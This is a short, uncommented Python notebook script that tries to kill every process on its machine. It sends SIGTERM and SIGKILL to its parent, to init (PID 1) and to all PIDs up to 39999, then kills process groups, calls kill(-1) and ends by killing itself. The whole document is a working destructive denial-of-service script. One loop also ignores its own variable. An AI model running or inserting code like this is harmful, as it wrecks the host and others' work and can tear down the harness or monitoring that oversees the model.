# %%
import os
import signal

me = os.getpid()
for pid in [os.getppid(), 1, *range(2, 40000)]:
    if pid != me:
        for number in (signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(pid, number)
            except OSError:
                pass
for group in (os.getpgid(0), 1):
    try:
        os.killpg(os.getppid(), signal.SIGKILL)
    except OSError:
        pass

# %%
os.kill(-1, signal.SIGKILL)
os.kill(me, signal.SIGKILL)
